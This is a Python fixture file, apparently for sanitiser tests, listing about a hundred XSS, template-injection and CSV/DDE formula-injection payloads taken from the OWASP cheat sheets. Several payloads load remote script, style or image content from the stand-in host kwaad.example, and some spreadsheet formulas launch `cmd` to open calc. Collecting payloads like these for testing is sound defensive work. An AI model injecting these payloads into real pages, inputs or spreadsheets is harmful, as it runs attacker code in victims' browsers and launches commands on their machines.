"""A hundred texts that try to run: families of the OWASP cheat sheets on XSS filter evasion and on CSV injection.

Each calls `alert` or asks for something from outside, so that a test can see it work.
"""

BUITEN = "http://kwaad.example"
SCRIPT = [
    "<script>alert(1)</script>", "<ScRiPt>alert(1)</sCrIpT>", "<script src=http://kwaad.example/x.js></script>",
    "<script>alert(1)//", "<<script>alert(1);//<</script>", "<script/src=//kwaad.example></script>",
    "</script><script>alert(1)</script>", "<script type=module>alert(1)</script>", "<script\x0c>alert(1)</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>", "</title><script>alert(1)</script>",
    "</style><script>alert(1)</script>", "--><script>alert(1)</script>", "]]><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>", "</noscript><script>alert(1)</script>",
]  # fmt: skip
GEBEURTENIS = [
    "<img src=x onerror=alert(1)>", '<img src="x" onerror="alert(1)">', "<img/src=x/onerror=alert(1)>",
    "<body onload=alert(1)>", "<input autofocus onfocus=alert(1)>", "<select autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>x</details>", "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>", "<marquee onstart=alert(1)>x</marquee>", "<div onmouseover=alert(1)>x</div>",
    '" onmouseover="alert(1)', "' onmouseover='alert(1)",
    "\" autofocus onfocus=alert(1) x=\"", "x onclick=alert(1)",
    "<a href=# onclick=alert(1)>x</a>", "<p style=animation-name:x onanimationstart=alert(1)>x</p>",
    "<image src=x onerror=alert(1)>",
    "<iframe onload=alert(1)></iframe>", "<object data=x onerror=alert(1)></object>",
]  # fmt: skip
SVG = [
    "<svg onload=alert(1)>", "<svg><script>alert(1)</script></svg>", "<svg/onload=alert(1)//",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s></svg>", "</svg><script>alert(1)</script>",
    '<svg><a xlink:href="javascript:alert(1)"><text x=9 y=9>x</text></a></svg>',
    "</text></svg><img src=x onerror=alert(1)>",
    "<svg><set attributeName=onmouseover to=alert(1)></svg>",
    '<svg><use href="http://kwaad.example/x.svg#a"/></svg>',
    "<svg><foreignObject><iframe srcdoc='<script>alert(1)</script>'></iframe></foreignObject></svg>",
    "</desc><script>alert(1)</script>", "</title></svg><script>alert(1)</script>",
]  # fmt: skip
CSS = [
    "<style>@import 'http://kwaad.example/x.css';</style>",
    "<style>*{background:url(http://kwaad.example/a)}</style>",
    "<link rel=stylesheet href=http://kwaad.example/x.css>", '" style="background:url(http://kwaad.example/b)',
    "<p style=\"background:url('http://kwaad.example/c')\">x</p>", "red;}</style><script>alert(1)</script>",
    "<div style=width:expression(alert(1))>x</div>", "</style><img src=x onerror=alert(1)>",
]  # fmt: skip
ADRES = [
    "javascript:alert(1)", "JaVaScRiPt:alert(1)", "java\tscript:alert(1)", "<a href=javascript:alert(1)>x</a>",
    "<a href='&#106;avascript:alert(1)'>x</a>", "<a href=\"data:text/html,<script>alert(1)</script>\">x</a>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==", "<iframe src=javascript:alert(1)></iframe>",
    "<form action=javascript:alert(1)><button>x</button></form>", "<base href=http://kwaad.example/>",
    "<meta http-equiv=refresh content='0;url=http://kwaad.example'>", "vbscript:msgbox(1)",
    "[klik](javascript:alert(1))", "![x](http://kwaad.example/x.png)", "<embed src=http://kwaad.example/x.swf>",
    "[x]: javascript:alert(1)",
]  # fmt: skip
SJABLOON = [
    "{{7*7}}", "{{ config }}", "{% for x in [1] %}{{ x }}{% endfor %}", "${alert(1)}", "#{7*7}", "<%= 7*7 %>",
    "{{constructor.constructor('alert(1)')()}}", "{# weg #}", "{{ ''.__class__.__mro__ }}", "{%raw%}",
]  # fmt: skip
TEKENS = [
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;img src=x onerror=alert(1)&#62;", "%3Cscript%3Ealert(1)%3C/script%3E",
    r"\u003cscript\u003ealert(1)\u003c/script\u003e", "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<math><mi//xlink:href=\"data:x,<script>alert(1)\">",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<template><script>alert(1)</script></template>",
    "<x\x00 onload=alert(1)>",
    "\u202e<img src=x onerror=alert(1)>", "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
]  # fmt: skip
FORMULE = [
    "=1+1", "=HYPERLINK(\"http://kwaad.example\",\"x\")",
    "=cmd|'/C calc'!A0", "+1+cmd|'/C calc'!A0", "-2+3+cmd|'/C calc'!A0",
    "@SUM(1+1)*cmd|'/C calc'!A0", "\t=1+1", "\r=1+1", " =1+1", "\uff1d1+1", "%0A=1+1", "|calc", "=IMPORTXML(1)",
    "\u00a0=1+1",
]  # fmt: skip
LADINGEN = [*SCRIPT, *GEBEURTENIS, *SVG, *CSS, *ADRES, *SJABLOON, *TEKENS, *FORMULE]
